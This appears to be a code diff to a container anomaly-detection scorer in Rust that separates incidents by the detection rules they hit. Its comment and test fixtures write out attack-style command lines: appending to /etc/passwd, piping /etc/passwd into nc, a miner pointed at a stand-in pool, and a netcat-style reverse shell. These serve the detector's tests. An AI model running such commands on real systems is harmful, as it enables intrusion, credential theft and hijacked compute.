@@ -366,6 +366,24 @@ struct Recorded {
     new_activity: bool,
 }
 
+/// `shape` with the ids of the rules hit folded into its bucket (unchanged
+/// when no rule hit).
+fn grouping_shape(mut shape: AnomalyShape, rules: &RulePart) -> AnomalyShape {
+    if rules.hits.is_empty() {
+        return shape;
+    }
+    let mut ids: Vec<&str> = rules.hits.iter().map(|h| h.id.as_str()).collect();
+    ids.sort_unstable();
+    ids.dedup();
+    let mut h = Fnv64::new();
+    h.write_field(&shape.bucket.to_le_bytes());
+    for id in ids {
+        h.write_field(id.as_bytes());
+    }
+    shape.bucket = h.finish();
+    shape
+}
+
 /// One number per distinct activity (anomaly shape).
 fn activity_of(shape: &AnomalyShape) -> u64 {
     let mut h = Fnv64::new();
@@ -659,8 +677,8 @@ impl Scorer {
     /// creates or updates the incident's alert. Pure apart from the
     /// scorer's own state; `now_ns` is the only clock.
     pub fn assess(&mut self, c: &CandidateAlert, llm: LlmOutcome, now_ns: u64) -> Outcome {
-        let r = self.record(c, now_ns);
         let rules = RulePart::of(&self.rules.evaluate(c));
+        let r = self.record(c, &rules, now_ns);
         let outcome = self.render(
             &r.key,
             c,
@@ -685,14 +703,14 @@ impl Scorer {
     /// is not asked again for every repeat); after "queue full" or another
     /// failure the next repeat asks again.
     pub fn assess_deferred(&mut self, c: &CandidateAlert, slot: LlmSlot, now_ns: u64) -> Deferred {
+        let rules = RulePart::of(&self.rules.evaluate(c));
         let Recorded {
             key,
             cluster,
             deviation,
             activity,
             new_activity,
-        } = self.record(c, now_ns);
-        let rules = RulePart::of(&self.rules.evaluate(c));
+        } = self.record(c, &rules, now_ns);
         if new_activity {
             // the incident did something new: an earlier answer judged
             // something else
@@ -752,9 +770,15 @@ impl Scorer {
     /// The incident is the one its process subtree is already part of (its
     /// pid or an ancestor's took part within `subtreeWindowSecs`), else the
     /// one of its shape in its workload.
-    fn record(&mut self, c: &CandidateAlert, now_ns: u64) -> Recorded {
+    ///
+    /// The shape counted (by the cluster statistics and the incidents) is
+    /// the candidate's, told apart by the rules it hits: two anomalies whose
+    /// arguments the profile finds similar but that hit different rules
+    /// (`echo … >> /etc/passwd` and `nc … < /etc/passwd` under one shell)
+    /// are two techniques, not one anomaly in two pods.
+    fn record(&mut self, c: &CandidateAlert, rules: &RulePart, now_ns: u64) -> Recorded {
         self.stats.candidates += 1;
-        let shape = c.shape();
+        let shape = grouping_shape(c.shape(), rules);
         let cluster = self.cluster.observe(c, &shape, now_ns);
         if cluster.relearn_suggested && !self.relearn.contains_key(&c.workload) {
             self.relearn
@@ -1498,6 +1522,36 @@ mod tests {
         let a = o.alert().expect("the LLM raised it");
         assert!(a.score >= 50.0);
         assert_eq!(a.recommendation.action, RecommendedAction::Investigate);
+    }
+
+    #[test]
+    fn similar_arguments_that_hit_different_rules_are_two_incidents() {
+        // the profile put both command lines in one similarity bucket (the
+        // same shape), but one names a mining pool and the other a shell
+        // with a socket: two techniques, two alerts
+        let mut s = scorer();
+        let mut a = candidate(
+            "/tmp/kworker",
+            &["kworker", "-o", "stratum+tcp://pool.example:3333"],
+        );
+        let mut b = candidate(
+            "/tmp/kworker",
+            &["kworker", "-e", "/bin/sh", "10.0.0.9", "4444"],
+        );
+        (b.pod, b.container_id, b.pid) = ("webapp-7".into(), "containerd://b7".into(), 777);
+        let shared = AnomalyShape::new(a.shape_trie_path(), 0x5eed);
+        a.shape = Some(shared.clone());
+        b.shape = Some(shared.clone());
+        let first = s.assess(&a, LlmOutcome::not_configured(), T0);
+        let second = s.assess(&b, LlmOutcome::not_configured(), T0 + 1);
+        let (first, second) = (first.alert().unwrap(), second.alert().unwrap());
+        assert_ne!(first.id, second.id);
+        assert_eq!(second.incident.pods, vec!["webapp-7".to_string()]);
+        // the same rules on similar arguments in another pod are one anomaly
+        let mut c = a.clone();
+        (c.pod, c.container_id, c.pid) = ("webapp-9".into(), "containerd://c9".into(), 999);
+        let third = s.assess(&c, LlmOutcome::not_configured(), T0 + 2);
+        assert_eq!(third.alert().unwrap().id, first.id);
     }
 
     #[test]
